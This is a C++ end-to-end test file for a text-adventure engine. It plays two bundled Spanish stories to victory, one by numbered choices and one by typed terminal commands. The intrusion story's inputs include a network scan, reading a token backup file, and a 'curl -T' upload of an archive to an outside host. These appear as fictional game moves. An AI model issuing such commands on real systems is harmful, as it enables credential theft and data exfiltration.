// The stories shipped in stories/, played to their endings through the real
// binary: the crypt by option numbers, the console intrusion by typed commands.
// Scenes are matched by id only, so retitling a scene does not break the walk.
#include "e2e/shell_e2e.h"

namespace {

using qh_test::contains_in_order;
using qh_test::lacks;
using namespace shell_e2e;

void add_bundled_story(const Sandbox& box, const std::string& name) {
  qh_test::copy_file(std::string(QH_SOURCE_DIR) + "/stories/" + name, box.file("stories/" + name));
}

TEST(BundledStories, CryptPlayedByNumbersToVictory) {
  Sandbox box;
  add_bundled_story(box, "la_cripta_del_rey_ceniza.md");
  // Holy water, the sacristan's prayer (2 + 5, enough for its DC), the tunnel, the
  // ford opened with the water, the bronze doors, the silver seal.
  qh_test::RunResult r = box.run("1\n1\nAna\n2\n1\n1\n1\n1\n1\n6\n");
  EXPECT_EQ(r.exit_code, 0);
  EXPECT_EQ(r.err, "");
  EXPECT_TRUE(contains_in_order(
      r.out, {"  [1] la cripta del rey ceniza (la_cripta_del_rey_ceniza.md)\n",
              "📖 Iniciando 'La Cripta del Rey Ceniza' por Taller de Quillhaven", "📍 [1] ",
              "[Obtienes: Agua Bendita]", "📍 [3] ", "=> 2 + 5 +0 = \x1b[1m7\x1b[0m vs DC ",
              "Superaste la prueba de Voluntad: Éxito Total (7 vs DC ",
              "🎁 Has encontrado un objeto: Sello de Plata", "📍 [9] ",
              "⚠️ ¡Peligro de entorno! Sufres 1 de daño.", "📍 [12] ", "📍 [11] ", "📍 [13] ",
              "📍 [14] ", "¡Felicidades! Has completado la aventura", kMenuPrompt, kFarewell}));
  EXPECT_TRUE(lacks(r.out, "Opción inválida"));
}

TEST(BundledStories, IntrusionPlayedByTypedCommandsToVictory) {
  Sandbox box;
  add_bundled_story(box, "intrusion_en_neon.md");
  qh_test::RunResult r = box.run(
      "1\n1\nNix\n1\n"
      "nmpa -sV 10.77.0.0/24\n"       // a near miss: the hint, nothing resolved
      ">_ NMAP   -sV 10.77.0.0/24\n"  // the marker, capitals and extra spaces still match
      "ssh mantenimiento@10.77.0.12 -p 2222\n"
      "ps aux\n"
      "kill -STOP 4471\n"  // 2 + 5 + Sigilo 1
      "1\n"
      "cat /var/backups/token_backup.db\n"  // the hidden command
      "1\n"
      "sudo orfeo-boveda --abrir euridice\n"
      "curl -T euridice.tgz https://buzon.urraca.net/subida\n"
      "6\n");
  EXPECT_EQ(r.exit_code, 0);
  EXPECT_EQ(r.err, "");
  EXPECT_TRUE(contains_in_order(
      r.out, {"📍 [2] ", "❌ Comando mal escrito o incompleto: 'nmpa -sV 10.77.0.0/24'",
              "💡 Sintaxis correcta en esta terminal:\n   >_ nmap -sV 10.77.0.0/24", "📍 [2] ",
              "Avanzas: nmap -sV 10.77.0.0/24", "📍 [5] ", "📍 [6] ", "📍 [9] ",
              "Superaste la prueba de Sigilo: Éxito Total (8 vs DC ",
              "🎁 Has encontrado un objeto: Bucle de Señal Falsa", "📍 [6] ",
              "🔓 ¡Comando de terminal oculto descubierto con éxito!",
              "🎁 Has encontrado un objeto: Token Raíz", "📍 [7] ",
              "🎁 Has encontrado un objeto: Expediente Eurídice", "📍 [18] ",
              "¡Felicidades! Has completado la aventura", kMenuPrompt, kFarewell}));
  EXPECT_TRUE(lacks(r.out, "Acción no resolutiva"));
}

}  // namespace
